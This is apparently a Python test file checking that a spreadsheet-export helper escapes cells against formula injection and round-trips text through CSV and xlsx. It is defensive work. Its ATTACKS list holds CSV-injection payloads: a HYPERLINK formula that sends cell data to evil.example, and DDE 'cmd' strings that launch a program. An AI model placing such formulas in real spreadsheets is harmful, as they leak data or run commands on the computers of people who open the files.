"""The one escaping rule for spreadsheet cells: nothing that comes out can run as a formula, and what
the export added is exactly what the import takes off, for any text hypothesis can think of."""

from __future__ import annotations

import csv
import io
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from linkgen import cells

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "notebooks"))
from storycycle_export import unescape_cell  # noqa: E402

ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\x01=1+1",
    "\uff1d1+1",
    "'=already quoted",
    "''+twice",
]
# Texts a careless user or an attacker would type: formula signs, quotes, spaces and control characters
# in front of anything.
PREFIXES = st.lists(
    st.sampled_from(["=", "+", "-", "@", "'", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\x01", "\uff20"]),
    max_size=4,
).map("".join)
TEXTS = st.builds(lambda head, tail: head + tail, PREFIXES, st.text(max_size=30))


def runs_as_formula(text: str) -> bool:
    """What a careless spreadsheet does with a cell, written apart from the helper: tab and line breaks
    in front always count; otherwise it looks past anything invisible (some programs trim spaces first)
    for a formula sign, full-width ones included. A leading quote makes the cell text."""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    visible = [c for c in text if not (c.isspace() or unicodedata.category(c)[0] in "CZ")]
    return bool(visible) and visible[0] in "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_known_attack_goes_out_as_text(attack):
    out = cells.escape(attack)
    assert not runs_as_formula(out)
    assert out == "'" + attack
    assert cells.unescape(out) == attack


@given(TEXTS)
@example("'Quoted")
@example("'=Gemeente")
@example("-")
@example("'")
@example("\U00018d09=")  # unassigned in Python 3.11's Unicode: a spreadsheet may skip it
@example("\ue000+1")  # private use
def test_escape_is_safe_and_unescape_takes_off_exactly_what_it_added(text):
    out = cells.escape(text)
    assert not runs_as_formula(out)
    assert out in (text, "'" + text)
    assert cells.unescape(out) == text
    # Ten trips through a CSV file do not grow quotes.
    value = text
    for _ in range(10):
        buffer = io.StringIO()
        cells.writer(buffer, delimiter=";").writerow([value])
        (read,) = next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
        value = cells.unescape(read)
    assert value == text.replace("\r\n", "\n") or value == text


@given(TEXTS)
def test_xlsx_text_reads_back_unchanged(text):
    out, quote_prefix = cells.xlsx_text(text)
    assert quote_prefix == cells.needs_escape(text)
    assert cells.unescape(out) == text


@given(TEXTS)
@example("'=Gemeente")
def test_the_notebook_reader_strips_exactly_what_the_platform_adds(text):
    assert unescape_cell(text) == cells.unescape(text)
    assert unescape_cell(cells.escape(text)) == text


def test_numbers_and_empty_cells_are_left_alone():
    assert cells.escape(-2) == -2 and cells.escape(-2.5) == -2.5 and cells.escape(None) is None
    assert cells.escape("") == "" and cells.escape("Gemeente Enschede") == "Gemeente Enschede"
    assert cells.escape("Jeugd-zorg = fijn") == "Jeugd-zorg = fijn"


@given(st.lists(st.one_of(TEXTS, st.integers(), st.none()), min_size=1, max_size=4))
@example(["Titel", "een regel\r=HYPERLINK(1)", None])
@example(["a\n@SUM(1)", -2])
def test_a_line_break_inside_a_cell_never_starts_a_row_of_its_own(row):
    """csv.writer quotes only its own line ends: with "\n" a bare "\r" would split the row, and the text
    after it would be a cell that no escape saw."""
    for terminator in ("\n", "\r\n"):
        buffer = io.StringIO()
        cells.writer(buffer, lineterminator=terminator).writerows([row, ["next"]])
        read = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
        assert read == [["" if v is None else str(cells.escape(v)) for v in row], ["next"]]
        # Numbers stay numbers (-2 is no formula); every text is safe.
        assert not any(runs_as_formula(c) for v, c in zip(row, read[0], strict=True) if isinstance(v, str))


def test_a_workbook_cell_is_a_typed_string_that_reads_back_unchanged():
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    for number, text in enumerate([*ATTACKS[:4], "'=Gemeente", "Gemeente Enschede", "", None], start=1):
        cells.xlsx_cell(book.active.cell(row=number, column=1), text)
    out = io.BytesIO()
    book.save(out)
    read = [c for (c,) in load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(max_row=8)]
    for cell, text in zip(read, [*ATTACKS[:4], "'=Gemeente", "Gemeente Enschede"], strict=False):
        assert cell.data_type == "s" and cells.unescape(cell.value) == text
        assert cell.quotePrefix == cells.needs_escape(text)
    assert [c.value for c in read[6:]] == [None, None]
